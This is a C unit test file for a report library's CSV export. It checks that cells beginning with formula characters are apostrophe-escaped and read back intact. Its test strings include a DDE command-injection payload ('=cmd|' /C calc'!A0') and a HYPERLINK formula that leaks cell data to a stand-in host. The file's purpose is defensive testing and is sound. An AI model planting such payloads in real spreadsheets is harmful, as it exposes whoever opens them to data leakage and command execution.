/* SPDX-License-Identifier: MIT */
/* CSV that is safe to open in a spreadsheet: text a spreadsheet would run as a formula
 * (= + - @, tab, CR first) is written after an apostrophe, as OWASP recommends, and reads
 * back unchanged; numbers, negative ones included, stay numbers. The wide CSV starts with
 * a UTF-8 byte order mark unless told not to; the long CSV never does. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"
#include "xxgk.h"

static const char *const texts[] = {
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+1", "-", "-2+3", "@SUM(A1:A9)",
    "\tx", "\r=1", "'=already quoted", "''-", "=", "'", "无", "-,\"quoted\"",
};
enum { NTEXTS = sizeof texts / sizeof texts[0] };

/* A 2019 report (it has signed counts): every text above as agency, title, a section or a
 * token, and a negative count. */
static xxgk_report *dangerous(void)
{
    xxgk_report *r = NULL;
    assert_int_equal(xxgk_report_new(&r, xxgk_template_get("2019")), 0);
    assert_int_equal(xxgk_report_set_agency(r, texts[0]), 0);
    assert_int_equal(xxgk_report_set_title(r, texts[1]), 0);
    assert_int_equal(xxgk_report_set_section(r, "overview", "=cmd|' /C calc'!A0"), 0);
    assert_int_equal(xxgk_report_set_section(r, "problems", "-10% 的问题"), 0);
    size_t n = xxgk_template_cell_count(xxgk_report_template(r)), k = 0;
    for (size_t id = 0; id < n; id++) {
        if (xxgk_template_cell_kind(xxgk_report_template(r), id) == XXGK_KIND_SIGNED_COUNT) {
            assert_int_equal(xxgk_report_cell_set_count(r, id, -8), 0);
        } else if (k < NTEXTS) {
            assert_int_equal(xxgk_report_cell_set_token(r, id, texts[k++]), 0);
        } else {
            char v[8];
            snprintf(v, sizeof v, "%zu", id % 7);
            assert_int_equal(xxgk_report_cell_set_number_text(r, id, v), 0);
        }
    }
    return r;
}

static char *write(const xxgk_report *r, int format, int bom)
{
    xxgk_write_options *wo = NULL;
    assert_int_equal(xxgk_write_options_new(&wo), 0);
    assert_int_equal(xxgk_write_options_set_format(wo, format), 0);
    if (bom >= 0)
        assert_int_equal(xxgk_write_options_set_bom(wo, bom), 0);
    char *s = NULL;
    assert_int_equal(xxgk_report_write(&s, NULL, r, wo), 0);
    xxgk_write_options_free(wo);
    return s;
}

/* No field of the CSV starts with a formula character (fields split naively at commas
 * and line ends, quotes stripped: a quoted field starting with one would show too). */
static void assert_no_formula(const char *csv)
{
    const char *p = csv;
    int field_start = 1;
    for (; *p; p++) {
        if (field_start) {
            const char *q = p;
            if (*q == '"')
                q++;
            if (*q == '=' || *q == '+' || *q == '@' || (*q == '-' && !(q[1] >= '0' && q[1] <= '9')))
                fail_msg("a field starts with a formula character: %.40s", p);
        }
        field_start = *p == ',' || *p == '\n';
    }
}

static void test_round_trip(int format)
{
    xxgk_report *r = dangerous();
    char *want = tu_json(r);
    char *csv = write(r, format, -1);
    assert_no_formula(csv);
    assert_non_null(strstr(csv, "\"'=HYPERLINK("));
    assert_non_null(strstr(csv, "\"'-\""));
    assert_non_null(strstr(csv, "-8"));     /* a negative number is written as a number */
    assert_null(strstr(csv, "'-8"));
    xxgk_report *back = tu_parse_str(csv, format);
    char *got = tu_json(back);
    assert_string_equal(got, want);
    free(got);
    free(want);
    xxgk_free(csv);
    xxgk_report_free(back);
    xxgk_report_free(r);
}

static void test_long_csv_round_trip(void **state)
{
    (void)state;
    test_round_trip(XXGK_FORMAT_CSV);
}

static void test_wide_csv_round_trip(void **state)
{
    (void)state;
    test_round_trip(XXGK_FORMAT_CSV_WIDE);
}

/* A report id that looks like a formula is escaped too, and reads back. */
static void test_report_id(void **state)
{
    (void)state;
    xxgk_report *r = tu_load(tu_src("examples/data/kundulun-xinfang-2023.json"));
    xxgk_write_options *wo = NULL;
    assert_int_equal(xxgk_write_options_new(&wo), 0);
    assert_int_equal(xxgk_write_options_set_format(wo, XXGK_FORMAT_CSV), 0);
    assert_int_equal(xxgk_write_options_set_report_id(wo, "=1+1"), 0);
    char *csv = NULL;
    assert_int_equal(xxgk_report_write(&csv, NULL, r, wo), 0);
    assert_true(strncmp(csv, "report,path,value\n\"'=1+1\",meta.template,2021\n", 44) == 0);
    xxgk_reader *rd = NULL;
    assert_int_equal(xxgk_reader_open(&rd, csv, strlen(csv), NULL), 0);
    xxgk_report *back = NULL;
    assert_int_equal(xxgk_reader_next(&back, rd), 0);
    assert_string_equal(xxgk_reader_report_id(rd), "=1+1");
    xxgk_report_free(back);
    xxgk_reader_free(rd);
    xxgk_write_options_free(wo);
    xxgk_free(csv);
    xxgk_report_free(r);
}

/* The wide CSV (for people and spreadsheets) has a byte order mark unless turned off; the
 * long CSV (for machines) never has one; either reads back. */
static void test_bom(void **state)
{
    (void)state;
    xxgk_report *r = tu_load(tu_src("examples/data/kundulun-xinfang-2023.json"));
    char *want = tu_json(r);
    char *wide = write(r, XXGK_FORMAT_CSV_WIDE, -1), *bare = write(r, XXGK_FORMAT_CSV_WIDE, 0);
    char *wide1 = write(r, XXGK_FORMAT_CSV_WIDE, 1), *lng = write(r, XXGK_FORMAT_CSV, 1);
    assert_true(strncmp(wide, "\xEF\xBB\xBFxxgk,1\n", 10) == 0);
    assert_string_equal(wide1, wide);
    assert_string_equal(bare, wide + 3);
    assert_true(strncmp(lng, "path,value\n", 11) == 0);
    const char *all[] = { wide, bare, lng };
    for (size_t i = 0; i < 3; i++) {
        xxgk_report *back = tu_parse_str(all[i], XXGK_FORMAT_AUTO);
        char *got = tu_json(back);
        assert_string_equal(got, want);
        free(got);
        xxgk_report_free(back);
    }
    xxgk_free(wide);
    xxgk_free(bare);
    xxgk_free(wide1);
    xxgk_free(lng);
    free(want);
    xxgk_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_long_csv_round_trip),
        cmocka_unit_test(test_wide_csv_round_trip),
        cmocka_unit_test(test_report_id),
        cmocka_unit_test(test_bom),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
